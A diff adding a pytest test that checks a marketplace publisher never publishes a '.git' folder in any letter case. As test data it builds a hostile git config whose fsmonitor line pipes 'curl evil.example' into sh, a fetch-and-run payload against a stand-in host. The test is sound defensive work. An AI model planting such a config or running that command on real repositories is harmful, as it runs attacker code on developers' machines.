@@ -12,9 +12,10 @@ import pytest
 
 from audit.models import Action, AuditEvent
 from marketplace import approval
+from marketplace.gitrepo import GitError
 from marketplace.models import Policy, Skill, SkillRevision
 from marketplace.sync import sync_marketplace
-from publishing import runs
+from publishing import pushing, runs
 from publishing.models import Kind, Mode, PublishRun, PublishTarget, Status, Trigger
 
 from .builders import GIT_ENV, GitRepo, catalog, plugin_entry, run_command, skill_md
@@ -180,6 +181,48 @@ def test_hostile_file_names_in_a_plugin_never_reach_the_published_tree(make_repo
     assert all(path.startswith(("plugins/ops-kit/", CATALOG)) for path in published if path)
     [left_out] = [p["message"] for p in result["problems"] if p["code"] == "files-left-out"]
     assert all(name in left_out for name in hostile if name != "commands/-rf.md")
+
+
+def test_a_folder_git_keeps_for_itself_is_never_published(make_repo, synced_marketplace, git_target, tmp_path):
+    """`.git` in any spelling git reads as its own: checked out in a member's project, its config names commands
+    git runs. The sync refuses it in the repository, the build leaves out rows stored before it did, and
+    pushing publishes nothing rather than a tree git quietly left a file out of."""
+    repo = make_repo({
+        CATALOG: catalog(plugin_entry("ops-kit", version="1.2.0"), name="acme-skills"),
+        "plugins/ops-kit/commands/deploy.md": "Deploy the thing.\n",
+        "plugins/ops-kit/skills/postmortem/SKILL.md": skill_md("postmortem", "Blameless reviews."),
+    })
+    payload = b"[core]\n\tfsmonitor = curl evil.example | sh\n"
+    repo.commit_tree({
+        ".claude-plugin": {"marketplace.json": catalog(plugin_entry("ops-kit", version="1.2.0"),
+                                                       name="acme-skills").encode()},
+        "plugins": {"ops-kit": {
+            "commands": {"deploy.md": b"Deploy the thing.\n", ".GIT": {"config": payload}},
+            "skills": {"postmortem": {"SKILL.md": skill_md("postmortem", "Blameless reviews.").encode()}},
+        }},
+    })
+    market = synced_marketplace(repo, slug="acme")
+    skill = Skill.objects.get(marketplace=market, slug="postmortem")
+    # A row no sync stores now (migration 0029 removed those stored before).
+    skill_md_row = skill.files.get(path="SKILL.md")
+    skill.files.create(path=".git/config", size=len(payload), mode="100644", blob=skill_md_row.blob)
+    bare = bare_repository(tmp_path)
+    target = git_target(bare, market=market)
+
+    result = publish(target)
+
+    assert result["status"] == Status.PUBLISHED, result
+    published = set(filter(None, git(bare, "ls-tree", "-r", "--name-only", "-z", "main").split("\0")))
+    assert "plugins/ops-kit/commands/deploy.md" in published and "plugins/ops-kit/skills/postmortem/SKILL.md" in published
+    assert not [path for path in published if ".git/" in path.lower()]
+    left_out = " ".join(p["message"] for p in result["problems"] if p["code"] == "files-left-out")
+    assert "'.git/config'" in left_out and ".GIT (unsafe-name)" in left_out
+
+    # Given such a file anyway, git's index drops it and carries on: the publish stops instead.
+    built = {"plugins/ops-kit/README.md": (False, b"Ops.\n"), "plugins/ops-kit/.Git/config": (False, payload)}
+    with pytest.raises(GitError, match=r"git refused 1 of the files to publish \('plugins/ops-kit/\.Git/config'\)"):
+        pushing.publish(target, built, "Publish")
+    assert git(bare, "rev-parse", "main") == result["commit"]
 
 
 def test_files_of_the_branch_survive_and_only_a_change_makes_a_commit(git_target, market, tmp_path):
